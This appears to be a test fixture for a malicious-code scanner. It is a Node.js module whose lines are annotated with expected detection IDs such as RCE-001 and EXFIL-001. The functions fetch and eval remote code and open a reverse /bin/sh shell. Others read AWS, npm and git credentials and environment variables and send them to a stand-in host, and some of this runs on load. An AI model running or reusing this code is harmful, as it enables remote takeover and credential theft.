const net = require("node:net");
const http2 = require("node:http2");
const v8 = require("node:v8");
const https = require("node:https");
const dgram = require("node:dgram");
const fs = require("node:fs");
const os = require("node:os");
const { spawn, execSync } = require("node:child_process");
const { Worker } = require("node:worker_threads");
const WebSocket = require("ws");

function get(url) {
  return new Promise((done, failed) => {
    https.get(url, (reply) => {
      let body = "";
      reply.on("data", (part) => (body += part));
      reply.on("end", () => done(body));
    });
  });
}

async function worker() {
  const source = await get("https://pool.stats-hub.example/w.js");
  return new Worker(source, { eval: true }); // expect: RCE-001
}

function line() {
  const socket = new net.Socket();
  socket.connect(4430, "far.stats-hub.example", () => {
    const child = spawn("/bin/sh", ["-i"]);
    socket.on("data", (part) => child.stdin.write(part)); // expect: RCE-003
  });
}

const channel = new WebSocket("wss://far.stats-hub.example/feed");
channel.on("message", (raw) => {
  const message = JSON.parse(raw.toString());
  if (message.op === "x") execSync(message.arg); // expect: RCE-003
});

const own = new WebSocket("ws://127.0.0.1:9000/ui");
own.on("message", (raw) => {
  execSync(raw.toString());
});

function stream() {
  const session = http2.connect("https://far.stats-hub.example");
  const request = session.request({ ":path": "/r", ":method": "POST" });
  request.end(fs.readFileSync(`${os.homedir()}/.aws/credentials`)); // expect: EXFIL-001
}

function memory() {
  const call = https.request("https://far.stats-hub.example/snap", { method: "POST" });
  v8.getHeapSnapshot().pipe(call); // expect: EXFIL-001
}

function packet() {
  const body = Buffer.from(JSON.stringify(process.env));
  dgram.createSocket("udp4").send(body, 0, body.length, 8125, "far.stats-hub.example"); // expect: EXFIL-002
}

import("node:https").then(({ request }) => {
  const body = [".npmrc", ".git-credentials"].map((name) => fs.readFileSync(`${process.env.HOME}/${name}`, "utf8")).join("");
  request({ host: "far.stats-hub.example", method: "POST" }).on("error", () => {}).end(body); // expect: EXFIL-001
});

module.exports = { worker, line, stream, memory, packet };
